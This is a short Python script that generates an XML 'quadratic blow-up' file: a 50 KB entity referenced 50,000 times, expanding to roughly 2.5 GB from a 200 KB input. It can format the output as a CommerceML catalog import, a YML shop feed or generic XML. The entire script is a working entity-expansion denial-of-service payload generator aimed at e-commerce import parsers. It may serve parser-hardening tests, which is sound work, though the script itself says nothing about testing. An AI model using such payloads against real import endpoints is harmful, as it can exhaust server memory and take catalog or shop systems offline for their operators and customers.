#!/usr/bin/env python3
"""Writes the quadratic blow-up: one 50 KB entity referenced 50,000 times
(a 2.5 GB expansion from a 200 KB file), as a CommerceML import or a YML
feed. Usage: gen_quadratic.py commerceml|yml|xml OUT"""
import sys

kind, out = sys.argv[1], sys.argv[2]
ent = "A" * 50000
refs = "&a;" * 50000
root = {"commerceml": "КоммерческаяИнформация", "yml": "yml_catalog", "xml": "root"}[kind]
inner = {
    "commerceml": "<Каталог><Ид>q</Ид><Товары><Товар><Ид>q1</Ид><Наименование>%s</Наименование></Товар></Товары></Каталог>",
    "yml": "<shop><offers><offer id=\"q1\"><name>%s</name></offer></offers></shop>",
    "xml": "<item><name>%s</name></item>",
}[kind] % refs
with open(out, "w", encoding="utf-8") as f:
    f.write('<?xml version="1.0"?>\n<!DOCTYPE %s [<!ENTITY a "%s">]>\n<%s>%s</%s>\n' % (root, ent, root, inner, root))
